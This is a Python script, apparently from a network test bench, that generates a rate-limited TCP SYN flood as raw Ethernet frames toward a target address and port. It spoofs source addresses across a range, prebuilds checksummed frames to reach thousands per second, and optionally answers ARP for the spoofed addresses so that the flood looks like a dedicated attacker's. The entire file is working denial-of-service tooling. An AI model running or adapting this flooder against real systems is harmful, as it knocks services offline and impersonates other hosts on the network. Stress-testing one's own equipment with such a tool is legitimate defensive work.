"""A paced SYN flood as raw Ethernet frames on one interface of the bench.

Every frame is built before the clock starts (one per source address and
port, checksums included), so the loop only sends: Python keeps up with
5000 frames/s this way, where building each frame in the loop would not.
Frames go out in small batches on a fixed schedule (rate x elapsed time),
so a slow moment is caught up rather than lost, and the run is bounded by
--seconds whatever happens.

  syn-flood.py --iface rtr-lan --dst-mac <router's LAN MAC> --src 192.168.4.2
               --dst 203.0.113.10 --dport 9000 --rate 1000 --seconds 5
  --src a.b.c.d/n    spoofed sources: every address in the range in turn
  --arp              answer ARP for the source addresses with --src-mac, so
                     the router's answers reach no stack (nothing sends the
                     RST a host's kernel would): a flooder that ignores
                     SYN-ACKs, as a dedicated attacker does

Prints one line: "sent <n> in <s> s (<rate>/s), <errors> send errors".
"""
import argparse, ipaddress, os, select, signal, socket, struct, sys, time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))


def frame(dst_mac, src_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def arp_reply(sock, data, mine, src_mac):
    # Ethernet + ARP request for one of `mine`: answer it from src_mac.
    if len(data) < 42 or data[12:14] != b"\x08\x06" or data[20:22] != b"\x00\x01":
        return
    target = data[38:42]
    if target not in mine:
        return
    asker_mac, asker_ip = data[22:28], data[28:32]
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + src_mac + target + asker_mac + asker_ip
    try:
        sock.send(asker_mac + src_mac + b"\x08\x06" + arp)
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--src-mac")
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--rate", type=float, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--sport-base", type=int, default=20000)
    ap.add_argument("--ports", type=int, default=40000)
    ap.add_argument("--arp", action="store_true")
    a = ap.parse_args()

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.iface, 0))
    src_mac = mac_bytes(a.src_mac) if a.src_mac else sock.getsockname()[4]
    dst_mac = mac_bytes(a.dst_mac)
    net = ipaddress.ip_network(a.src, strict=False)
    sources = [h.packed for h in (net.hosts() if net.num_addresses > 2 else net)][:4096]
    dst = socket.inet_aton(a.dst)
    total = max(1, int(a.rate * a.seconds))
    ports = max(1, min(a.ports, 65535 - a.sport_base))
    distinct = min(total, len(sources) * ports, 65536)
    frames = []
    for i in range(distinct):
        src = sources[i % len(sources)]
        sport = a.sport_base + (i // len(sources)) % ports
        frames.append(frame(dst_mac, src_mac, src, dst, sport, a.dport, (i * 2654435761) & 0xFFFFFFFF))

    arp = None
    if a.arp:
        arp = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
        arp.bind((a.iface, 0))
        arp.setblocking(False)
        mine = set(sources)

    # SIGTERM ends the flood early, still with its summary line.
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    print("ready", flush=True)
    sent = errors = 0
    start = time.monotonic()
    deadline = start + a.seconds
    batch = max(1, int(a.rate / 500))   # about 2 ms of frames at a time
    while sent < total and not stop:
        now = time.monotonic()
        if now >= deadline + 1.0:
            break
        due = min(total, int((now - start) * a.rate) + 1)
        n = 0
        while sent < due and n < batch * 4:
            try:
                sock.send(frames[sent % distinct])
            except OSError:
                errors += 1
            sent += 1
            n += 1
        if arp is not None:
            while True:
                try:
                    data = arp.recv(2048)
                except BlockingIOError:
                    break
                arp_reply(arp, data, mine, src_mac)
        if sent < due:
            continue
        wait = start + (sent + batch - 1) / a.rate - time.monotonic()
        if wait > 0:
            if arp is not None:
                select.select([arp], [], [], wait)
            else:
                time.sleep(wait)
    elapsed = time.monotonic() - start
    print(f"sent {sent} in {elapsed:.2f} s ({sent / elapsed:.0f}/s), {errors} send errors", flush=True)
    # Keep answering ARP a little after the flood, as a host stays up.
    if arp is not None:
        end = time.monotonic() + float(os.environ.get("SYN_FLOOD_LINGER", "0"))
        while time.monotonic() < end and not stop:
            if select.select([arp], [], [], 0.1)[0]:
                try:
                    arp_reply(arp, arp.recv(2048), mine, src_mac)
                except BlockingIOError:
                    pass


if __name__ == "__main__":
    sys.exit(main())
